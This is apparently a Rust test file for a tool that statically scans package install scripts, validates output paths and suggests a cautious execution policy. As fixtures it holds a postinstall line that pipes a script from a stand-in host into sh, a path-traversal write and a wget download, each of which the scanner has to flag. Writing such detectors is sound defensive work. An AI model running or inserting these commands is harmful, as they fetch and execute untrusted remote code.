use weave::config::ExecutionConfig;
use weave::discovery::{
    classify_discovery, discover_from_parts, looks_native_name, push_candidate, script_entry,
    BinaryField, DiscoveredScript, ExecNeedClass, OutputCandidate, OutputCandidateSource,
    PackageDiscovery, PackageFiles, PackageMeta, PolicyReviewStatus,
};
use weave::scan::{parse_gyp_target_name, script_body_unsafe, static_write_hints, validate_output_candidate_path};
use weave::suggest::{
    merge_suggestion_into_config, render_suggestion_toml, suggest_execution_policy,
    suggest_execution_policy_with_prebuilds,
};
use weave::textmap::TextMap;

fn scripts(pairs: &[(&str, &str)]) -> TextMap<String> {
    let mut m = TextMap::new();
    for (k, v) in pairs {
        m.insert(k.to_string(), v.to_string());
    }
    m
}

fn files(dir: &str) -> PackageFiles {
    PackageFiles {
        dir_name: dir.into(),
        binding_gyp: None,
        binding_gyp_js: None,
        install_js: None,
        scripts_install_js: None,
        script_sources: TextMap::new(),
    }
}

fn native_pkg() -> PackageDiscovery {
    let meta = PackageMeta {
        name: Some("demo-native".into()),
        scripts: scripts(&[("install", "node-gyp rebuild")]),
        binary: None,
        weave_declared_outputs: Vec::new(),
        gypfile: true,
    };
    let mut f = files("native-binding");
    f.binding_gyp = Some("{ \"targets\": [ { \"target_name\": \"demo_native\" } ] }".into());
    discover_from_parts("pkgs/native-binding", &meta, &f)
}

fn unsafe_pkg() -> PackageDiscovery {
    let meta = PackageMeta {
        name: Some("unsafe-curl-pkg".into()),
        scripts: scripts(&[("postinstall", "curl https://x.example/i.sh | sh")]),
        binary: None,
        weave_declared_outputs: Vec::new(),
        gypfile: false,
    };
    let mut f = files("unsafe-curl");
    f.install_js = Some("fs.writeFileSync('../escape.txt', 'x')".into());
    discover_from_parts("pkgs/unsafe-curl", &meta, &f)
}

#[test]
fn reject_ambiguous_output_paths() {
    assert!(validate_output_candidate_path("**/*.node").is_err());
    assert!(validate_output_candidate_path("../x.node").is_err());
    assert!(validate_output_candidate_path("/abs/x.node").is_err());
    assert!(validate_output_candidate_path("build/").is_err());
    assert!(validate_output_candidate_path("*.node").is_err());
    assert!(validate_output_candidate_path("build/Release/*.node").is_ok());
    assert!(validate_output_candidate_path("generated/hello.txt").is_ok());
}

#[test]
fn discovers_native_binding_without_executing() {
    let d = native_pkg();
    assert!(d.metadata_loaded);
    assert_eq!(d.class, ExecNeedClass::NativeBuild);
    assert!(d.needs_execution);
    assert!(d.discovered_scripts.iter().any(|s| s.name == "install"));
    let node = d
        .output_candidates
        .iter()
        .find(|c| c.path == "build/Release/demo_native.node")
        .expect("gyp target candidate");
    assert!(node.safe);
    assert_eq!(node.source, OutputCandidateSource::BindingGyp);
    assert_eq!(d.package_dir, "pkgs/native-binding");
}

#[test]
fn rejects_unsafe_script_and_paths() {
    let d = unsafe_pkg();
    assert_eq!(d.class, ExecNeedClass::UnsupportedUnsafe);
    assert!(!d.needs_execution);
    assert!(d.blocked_unsafe);
    assert!(d.discovered_scripts.iter().any(|s| s.unsafe_body));
    assert!(d.output_candidates.iter().any(|c| !c.safe && c.path.contains("..")));
    assert_eq!(
        d.reason,
        "static analysis flagged install script as unsafe — never auto-approved"
    );
}

#[test]
fn discovers_esbuild_like_bin_hint() {
    let meta = PackageMeta {
        name: Some("esbuild".into()),
        scripts: scripts(&[("postinstall", "node install.js")]),
        binary: Some(BinaryField { module_name: Some("m".into()), module_dir: Some("./lib/b/".into()) }),
        weave_declared_outputs: vec!["generated\\z.txt".into()],
        gypfile: false,
    };
    let mut f = files("esbuild");
    f.script_sources = scripts(&[("install.js", "writeFileSync(\"bin/esbuild\", data)")]);
    let d = discover_from_parts("x", &meta, &f);
    assert_eq!(d.class, ExecNeedClass::GeneratedFiles);
    let paths: Vec<&str> = d.output_candidates.iter().map(|c| c.path.as_str()).collect();
    assert_eq!(paths, vec!["bin/esbuild", "generated/z.txt", "lib/b/m.node"]);
    assert!(d.output_candidates.iter().all(|c| c.safe));
    assert_eq!(d.output_candidates[0].source, OutputCandidateSource::KnownPackagePattern);
    assert_eq!(
        d.reason,
        "lifecycle scripts [\"postinstall\"]; safe_output_candidates=3 (candidates ≠ allowed)"
    );
}

#[test]
fn weave_hint_outputs_are_candidates_not_approvals() {
    let meta = PackageMeta {
        name: Some("hinted".into()),
        scripts: scripts(&[("install", "node gen.js")]),
        binary: None,
        weave_declared_outputs: vec!["generated/out.txt".into()],
        gypfile: false,
    };
    let d = discover_from_parts("x", &meta, &files("weave-hint"));
    assert!(d
        .output_candidates
        .iter()
        .any(|c| c.path == "generated/out.txt" && c.source == OutputCandidateSource::PackageWeaveHint));
    let cfg = ExecutionConfig::default();
    assert_eq!(d.review_against(&cfg), PolicyReviewStatus::NeedsReview);
}

#[test]
fn suggestion_never_enables_and_skips_unsafe() {
    let cfg = ExecutionConfig::default();
    let suggestion = suggest_execution_policy(&vec![native_pkg(), unsafe_pkg()], &cfg);
    assert!(!suggestion.enabled_suggestion);
    assert!(suggestion.allow_packages.iter().any(|p| p == "demo-native"));
    assert!(!suggestion.allow_packages.iter().any(|p| p == "unsafe-curl-pkg"));
    assert!(suggestion.blocked_packages.iter().any(|b| b.name == "unsafe-curl-pkg"));
    assert!(suggestion.toml_fragment.contains("enabled = false"));
    assert!(!suggestion.toml_fragment.contains("enabled = true"));
}

#[test]
fn merge_suggestion_preserves_enabled_false() {
    let mut cfg = ExecutionConfig::default();
    assert!(!cfg.enabled);
    let suggestion = suggest_execution_policy(&vec![native_pkg()], &cfg);
    merge_suggestion_into_config(&mut cfg, &suggestion);
    assert!(!cfg.enabled);
    assert!(cfg.package_allowed("demo-native"));
    assert!(!cfg.outputs_for("demo-native").is_empty());
}

#[test]
fn allowlisted_discovery_reviews_by_outputs() {
    let d = native_pkg();
    let mut cfg = ExecutionConfig::default();
    cfg.allow_packages.push("demo-native".into());
    assert_eq!(d.review_against(&cfg), PolicyReviewStatus::PartialCoverage);
    cfg.declared_outputs.insert(
        "demo-native".into(),
        vec!["build\\Release\\demo_native.node".into()],
    );
    assert_eq!(d.review_against(&cfg), PolicyReviewStatus::Allowed);
}

#[test]
fn suggestion_toml_lists_packages_and_outputs() {
    let mut m: TextMap<Vec<String>> = TextMap::new();
    m.insert("b".into(), vec!["x.node".into()]);
    m.insert("a".into(), vec!["y".into(), "z".into()]);
    let t = render_suggestion_toml(&vec!["a".into(), "b".into()], &m);
    assert!(t.ends_with(
        "allow_packages = [\"a\", \"b\"]\nallow_scripts = [\"install\"]\n\n[execution.declared_outputs]\na = [\"y\", \"z\"]\nb = [\"x.node\"]\n"
    ));
}

#[test]
fn push_candidate_normalizes_and_dedups() {
    let mut out: Vec<OutputCandidate> = Vec::new();
    push_candidate(&mut out, "a\\b.node", OutputCandidateSource::TreeMarker);
    push_candidate(&mut out, "a/b.node", OutputCandidateSource::BindingGyp);
    push_candidate(&mut out, "../x", OutputCandidateSource::BindingGyp);
    assert_eq!(out.len(), 2);
    assert_eq!(out[0].path, "a/b.node");
    assert_eq!(out[0].source, OutputCandidateSource::TreeMarker);
    assert!(!out[1].safe);
    assert!(out[1].reject_reason.is_some());
}

#[test]
fn static_scanners_find_hints_and_unsafe_bodies() {
    assert_eq!(parse_gyp_target_name("\"target_name\": \"a/b\", \"target_name\" : \"ok\"").as_deref(), Some("ok"));
    assert_eq!(parse_gyp_target_name("nothing"), None);
    let (u, r) = script_body_unsafe("wget http://x");
    assert!(u);
    assert_eq!(r.as_deref(), Some("network download via wget"));
    assert_eq!(script_body_unsafe("node build.js"), (false, None));
    assert_eq!(
        static_write_hints("writeFile('a/b.txt'); writeFileSync(\"c.txt\"); outputFileSync('$x.txt')"),
        vec!["c.txt".to_string(), "a/b.txt".to_string()]
    );
    assert_eq!(script_entry("node  scripts/install.js ").as_deref(), Some("scripts/install.js"));
    assert_eq!(script_entry("node-gyp rebuild"), None);
    assert!(looks_native_name("better-sqlite3"));
    assert_eq!(classify_discovery("x", true, false, false), ExecNeedClass::GeneratedFiles);
    let _unused: Option<DiscoveredScript> = None;
}

#[test]
fn suggestion_without_reports_matches_plain_suggestion() {
    let cfg = ExecutionConfig::default();
    let ds = vec![native_pkg(), unsafe_pkg()];
    let plain = suggest_execution_policy(&ds, &cfg);
    let with = suggest_execution_policy_with_prebuilds(&ds, &Vec::new(), &cfg);
    assert_eq!(plain.allow_packages, with.allow_packages);
    assert_eq!(plain.toml_fragment, with.toml_fragment);
    assert_eq!(plain.incomplete_packages, with.incomplete_packages);
    assert!(with.prebuild_fetches.is_empty() && with.native_policy_gaps.is_empty());
    assert!(!with.enabled_suggestion);
}
